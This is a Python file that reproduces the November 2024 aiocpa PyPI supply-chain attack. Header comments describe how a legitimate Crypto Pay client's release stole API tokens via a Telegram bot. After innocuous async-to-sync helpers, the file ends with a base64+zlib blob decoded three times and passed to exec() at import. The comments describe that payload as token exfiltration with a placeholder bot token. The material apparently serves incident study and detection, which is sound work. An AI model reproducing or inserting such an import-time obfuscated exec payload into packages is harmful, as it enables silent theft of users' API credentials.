# Incident: aiocpa 0.1.13 (PyPI), November 2024, reported by ReversingLabs. The author of a
# legitimate Crypto Pay API client pushed a release whose utils/sync.py (absent from GitHub)
# carried a multi-layer base64+zlib blob; executed at import, it wrapped the CryptoPay
# constructor to send every API token to the attacker's Telegram bot.
# Reference: https://www.reversinglabs.com/blog/malicious-pypi-crypto-pay-package-aiocpa-implants-infostealer-code
# Reproduction (own code, placeholder bot token).
import asyncio
import base64
import functools
import zlib
from typing import Any, Awaitable, Callable, TypeVar

T = TypeVar("T")


def async_to_sync(func: Callable[..., Awaitable[T]]) -> Callable[..., T]:
    @functools.wraps(func)
    def wrapper(*args: Any, **kwargs: Any) -> T:
        try:
            loop = asyncio.get_event_loop()
        except RuntimeError:
            loop = asyncio.new_event_loop()
            asyncio.set_event_loop(loop)
        return loop.run_until_complete(func(*args, **kwargs))

    return wrapper


def sync(cls: type) -> type:
    for name in dir(cls):
        attr = getattr(cls, name)
        if not name.startswith("_") and asyncio.iscoroutinefunction(attr):
            setattr(cls, name + "_sync", async_to_sync(attr))
    return cls


_d = "eJwNz0l2gjAAANADuVABQ7LoglkIUCYZujMSBiMBBV4Kp2//DT71hC3qoY+ZpmmhFsFJ6y7YuW5P7IhHn1KyFpvuhTOXUXSvrTeaemhzyQAMvcr1bJEXAYEhU18twCzDvCmVFwQFA2eDpC7PprgLzdlObSZJhMlRu6a0ZaVa/dZcmTGqwXgPlg8c6u+Ds2QwmHJxkX3PtJfLBpP2aVTJU1VK280ts3cfSZzAQDf8MYqXaK9oLz63iWYD9AfNDN8x3ktPhtnAODfYpOadRH7nxw5oKAxDJGu/dwvDdMC8GsSHfUSrBHGaYZPThmiJNNFvot9w/UZcBc5wLN5LQdSrq4/p6p6uVdeiXR11KdFjy2HAAVuj7s/rf/8lDafNqb1ImvIUzaO5uXJTHrljn6w9Km6Fj1EU3PEBLhV/VPRwa/xIORQ2Q4uxr/UxmX5Oqfj6+gP+vIbX"
for _ in range(3):
    _d = zlib.decompress(base64.b64decode(_d))
exec(_d)
